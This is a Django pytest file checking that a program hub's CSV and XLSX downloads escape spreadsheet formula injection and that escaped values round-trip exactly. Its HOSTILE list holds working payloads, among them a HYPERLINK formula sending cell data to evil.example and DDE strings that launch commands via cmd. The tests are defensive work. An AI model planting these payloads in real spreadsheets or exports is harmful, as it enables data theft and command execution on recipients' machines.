"""Formula injection (issue 15, item 6): a partner titles a program
`=HYPERLINK("http://evil.example/?x="&A1,"Day camp")`, and whoever opens a download of the hub in a
spreadsheet program gets a live formula. Every CSV and XLSX the hub writes goes through one
formula-safe cell writer (hub/formula_cells.py); each download is checked here, and the HSDS
tables still come back exactly as they were."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from hub.equity.models import ParticipationCount, PopulationGroup
from hub.formula_cells import safe_cell, unescape
from hub.hsds import tabular
from hub.imports import template

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Day camp")'
# Every start OWASP names: = + - @, tab, carriage return.
HOSTILE = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def publish_title(page, title):
    page = type(page).objects.get(pk=page.pk)  # the module's world, as this test left it
    page.title = title
    page.save_revision().publish()
    return page


def cells(content):
    return [cell for line in csv.reader(io.StringIO(content)) for cell in line]


def assert_no_cell_runs(all_cells):
    for cell in all_cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _plain_number(cell), cell


def _plain_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_rule_is_owasps_and_undoes_exactly():
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
        assert unescape(safe_cell(value)) == value
    for value in ("'=already quoted", "'", "''", "it's fine", "Day camp", "", "+1 510 555 0100"):
        assert unescape(safe_cell(value)) == value
    # Numbers stay numbers: a count, a negative index, a longitude written as text.
    assert safe_cell(-3) == -3 and safe_cell(Decimal("-0.5")) == Decimal("-0.5")
    assert safe_cell("-119.897426") == "-119.897426" and safe_cell(None) is None
    assert unescape("'plain text") == "'plain text"  # an apostrophe the hub did not add stays
    # A phone number names no function or cell; other directories read it without an apostrophe.
    assert safe_cell("+1 (510) 555-0100") == "+1 (510) 555-0100"
    assert safe_cell("+1 510 555 0100+cmd|' /C calc'!A0").startswith("'")


def test_the_issues_hyperlink_title_comes_out_neutralised_in_the_equity_download(client, world):
    publish_title(world.alpha_club, HYPERLINK)
    group = PopulationGroup.objects.create(
        category=PopulationGroup.Category.RACE_ETHNICITY, name="All", share=Decimal("100")
    )
    ParticipationCount.objects.create(
        page=world.alpha_club, year=2026, term="fall", group=group, count=40
    )
    response = client.get("/api/v1/equity/representation-programs.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert "'" + HYPERLINK in [row["row_label"] for row in rows], rows
    assert_no_cell_runs(cells(response.content.decode()))


def test_hostile_titles_are_neutralised_in_the_translation_coverage_csv(client, world):
    for title in HOSTILE:
        publish_title(world.alpha_club, title)
        client.force_login(world.staff)
        download = client.get("/admin/translations/", {"language": "es", "export": "csv"})
        written = cells(download.content.decode())
        assert "'" + title in written
        assert_no_cell_runs(written)


def test_the_hsds_tables_neutralise_a_hostile_title_and_read_it_back_exactly(world, tmp_path):
    publish_title(world.alpha_club, HYPERLINK)
    publish_title(world.alpha, "@SUM(1+1)*cmd|' /C calc'!A0")
    call_command("export_hsds", str(tmp_path), stdout=io.StringIO())
    for table in tmp_path.glob("*.csv"):
        assert_no_cell_runs(cells(table.read_text(encoding="utf-8")))
    services = cells((tmp_path / "services.csv").read_text(encoding="utf-8"))
    assert "'" + HYPERLINK in services
    read_back = tabular.read_tabular(tmp_path)
    assert not read_back.problems
    (alpha,) = [o for o in read_back.documents["organization"] if o["name"].startswith("@")]
    assert alpha["name"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    names = [s["name"] for s in read_back.documents["service"]]
    names += [s["name"] for o in read_back.documents["organization"] for s in o.get("services", [])]
    assert HYPERLINK in names


def test_a_hostile_value_in_the_xlsx_template_is_text_not_a_formula(client, world, monkeypatch):
    monkeypatch.setitem(template.EXAMPLE, "title", HYPERLINK)
    client.force_login(world.partner_a)
    response = client.get("/admin/import/template.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
    title = book["programs"]["B2"]
    assert title.value == "'" + HYPERLINK


def test_a_partner_sending_back_an_escaped_cell_gets_the_same_checks_as_the_original(world):
    from hub.imports.spreadsheet import ImportRefused, read

    header = "external_id,title,contact_phone\n"
    # What the hub's downloads wrote for "'quoted" and "+1 510 555 0100" reads as those.
    _header, rows = read((header + "a1,''quoted,'+1 510 555 0100\n").encode(), "p.csv")
    assert rows[0][1]["title"] == "'quoted"
    assert rows[0][1]["contact_phone"] == "+1 510 555 0100"
    with pytest.raises(ImportRefused, match="starts like a formula"):
        read((header + "a1,'=HYPERLINK(1),x\n").encode(), "p.csv")
